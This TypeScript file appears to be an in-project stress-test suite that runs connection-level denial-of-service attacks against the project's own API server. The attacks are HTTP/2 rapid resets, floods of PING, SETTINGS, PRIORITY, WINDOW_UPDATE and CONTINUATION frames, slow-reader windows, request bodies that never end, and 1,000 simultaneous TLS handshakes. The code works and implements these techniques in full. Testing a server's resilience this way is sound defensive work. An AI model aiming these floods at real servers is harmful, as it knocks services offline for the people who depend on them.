/** Attacks by connections: HTTP/2 frames, handshakes, senders and readers that are slow. */
import { once } from "node:events";
import { type ClientHttp2Session, connect, constants } from "node:http2";
import { connect as connectTcp, createServer, type Socket } from "node:net";
import { connect as connectTls, type TLSSocket } from "node:tls";
import { http2Frame } from "../../server/http/testing/http2-frame.js";
import type { Attack, Attacker } from "./attack.js";

const FLOOD_MS = 2_000;

/** A connection that has said which protocol it speaks. */
async function openRaw(attacker: Attacker): Promise<TLSSocket> {
  const { hostname, port } = new URL(attacker.client.url);
  const { ca } = attacker.client.credentials;
  const socket = connectTls({ host: hostname, port: Number(port), ca, ALPNProtocols: ["h2"] });
  socket.on("error", () => {});
  await once(socket, "secureConnect");
  socket.write(
    Buffer.concat([Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), http2Frame(4, 0, 0)]),
  );
  socket.resume();
  return socket;
}

/** Six connections write the same piece as fast as the server reads, for two seconds or until it closes them. */
function flood(piece: Buffer): (attacker: Attacker) => Promise<void> {
  return floodAfter(() => Buffer.alloc(0), piece);
}

/** The same behind a beginning of each connection. */
function floodAfter(
  begin: (attacker: Attacker) => Buffer,
  piece: Buffer,
): (attacker: Attacker) => Promise<void> {
  return (attacker) =>
    attacker.many(6, 6, async () => {
      const socket = await openRaw(attacker);
      socket.write(begin(attacker));
      const endMs = performance.now() + FLOOD_MS;
      while (performance.now() < endMs && !socket.destroyed) {
        if (socket.write(piece)) await new Promise(setImmediate);
        else await Promise.race([once(socket, "drain"), once(socket, "close")]).catch(() => {});
      }
      socket.destroy();
    });
}

const repeat = (count: number, piece: Buffer) => Buffer.concat(Array(count).fill(piece));

/** Streams that are opened and reset at once, with the token or without. */
function rapidReset(withToken: boolean): (attacker: Attacker) => Promise<void> {
  return (attacker) =>
    attacker.many(6, 6, async () => {
      const { ca } = attacker.client.credentials;
      const session = connect(attacker.client.url, { ca });
      session.on("error", () => {});
      const headers = {
        ":path": "/api/v1/namespaces/red/configmaps",
        ...(withToken && { authorization: `Bearer ${attacker.token}` }),
      };
      const endMs = performance.now() + FLOOD_MS;
      while (performance.now() < endMs && !session.destroyed && !session.closed) {
        for (let count = 0; count < 100 && !session.destroyed && !session.closed; count++) {
          resetOne(session, headers);
        }
        await new Promise(setImmediate);
      }
      session.destroy();
    });
}

function resetOne(session: ClientHttp2Session, headers: Record<string, string>): void {
  const stream = session.request(headers);
  stream.on("error", () => {});
  stream.close(constants.NGHTTP2_CANCEL);
}

/** Headers of a request in HPACK, without its tables. */
function requestHead({ token }: Attacker, method: string, path: string): Buffer {
  const text = (value: string): Buffer => {
    const bytes = Buffer.from(value);
    if (bytes.length < 127) return Buffer.concat([Buffer.from([bytes.length]), bytes]);
    const rest = bytes.length - 127;
    return Buffer.concat([Buffer.from([127, (rest & 127) | 128, rest >> 7]), bytes]);
  };
  const headers = {
    ":method": method,
    ":scheme": "https",
    ":authority": "a",
    ":path": path,
    authorization: `Bearer ${token}`,
    "content-type": "application/json",
  };
  return Buffer.concat(
    Object.entries(headers).flatMap(([name, value]) => [Buffer.from([0]), text(name), text(value)]),
  );
}

/** What a client of TLS says first. */
async function firstMessage(): Promise<Buffer> {
  const listening = createServer().listen(0, "127.0.0.1");
  await once(listening, "listening");
  const address = listening.address();
  const port = typeof address === "object" ? (address?.port ?? 0) : 0;
  connectTls({ host: "127.0.0.1", port }).on("error", () => {});
  const [socket] = (await once(listening, "connection")) as [Socket];
  socket.on("error", () => {});
  const [message] = (await once(socket, "data")) as [Buffer];
  socket.destroy();
  listening.close();
  return message;
}

async function sayFirstTogether({ client, signal }: Attacker): Promise<void> {
  const message = await firstMessage();
  const { hostname, port } = new URL(client.url);
  const sockets = Array.from({ length: 1_000 }, () =>
    connectTcp({ host: hostname, port: Number(port), signal }).on("error", () => {}),
  );
  await Promise.all(sockets.map((socket) => once(socket, "connect").catch(() => {})));
  await new Promise((resolve) => setTimeout(resolve, 500));
  for (const socket of sockets) socket.write(message);
  await new Promise((resolve) => setTimeout(resolve, 2_000));
  for (const socket of sockets) socket.destroy();
}

export const CONNECTION_ATTACKS: readonly Attack[] = [
  { name: "http/2: rapid resets of nobody", run: rapidReset(false), isShort: true },
  { name: "http/2: rapid resets of a user", run: rapidReset(true) },
  { name: "http/2: pings", run: flood(repeat(500, http2Frame(6, 0, 0, Buffer.alloc(8)))) },
  { name: "http/2: settings", run: flood(repeat(500, http2Frame(4, 0, 0))) },
  { name: "http/2: priorities", run: flood(repeat(500, http2Frame(2, 0, 1, Buffer.alloc(5)))) },
  {
    name: "http/2: window updates",
    run: flood(repeat(500, http2Frame(8, 0, 0, Buffer.from([0, 0, 0, 1])))),
  },
  {
    name: "http/2: continuations without end",
    run: flood(
      Buffer.concat([
        http2Frame(1, 0, 1, Buffer.from([0x82])),
        repeat(500, http2Frame(9, 0, 1, Buffer.from([0x82]))),
      ]),
    ),
  },
  {
    name: "200 handshakes that say nothing",
    run: (attacker) =>
      attacker.many(200, 50, async () => {
        const socket = await openRaw(attacker);
        socket.destroy();
      }),
  },
  {
    name: "http/2: bodies in frames of a byte",
    run: floodAfter(
      (attacker) =>
        http2Frame(
          1,
          4,
          1,
          requestHead(attacker, "POST", "/api/v1/namespaces/red/configmaps?dryRun=All"),
        ),
      repeat(500, http2Frame(0, 0, 1, Buffer.from(" "))),
    ),
  },
  {
    name: "http/2: a hundred lists that are read a byte at a time",
    run: floodAfter(
      (attacker) =>
        Buffer.concat([
          // An initial window of one byte.
          http2Frame(4, 0, 0, Buffer.from([0, 4, 0, 0, 0, 1])),
          ...Array.from({ length: 100 }, (_, at) =>
            http2Frame(
              1,
              5,
              1 + 2 * at,
              requestHead(attacker, "GET", "/api/v1/namespaces/red/configmaps"),
            ),
          ),
        ]),
      Buffer.concat(
        Array.from({ length: 100 }, (_, at) =>
          http2Frame(8, 0, 1 + 2 * at, Buffer.from([0, 0, 0, 1])),
        ),
      ),
    ),
  },
  { name: "1,000 first messages of TLS at once", run: sayFirstTogether, isShort: true },
  {
    name: "300 bodies that never end",
    run: async (attacker) => {
      const sockets: TLSSocket[] = [];
      await attacker.many(300, 50, async () => {
        const { hostname, port } = new URL(attacker.client.url);
        const { ca } = attacker.client.credentials;
        const socket = connectTls({ host: hostname, port: Number(port), ca });
        socket.on("error", () => {});
        await once(socket, "secureConnect");
        const head = `POST /api/v1/namespaces/red/configmaps HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer ${attacker.token}\r\nContent-Type: application/json\r\nContent-Length: 3000000\r\n\r\n{`;
        socket.write(head);
        sockets.push(socket);
      });
      await new Promise((resolve) => setTimeout(resolve, 1_000));
      for (const socket of sockets) socket.destroy();
    },
  },
];
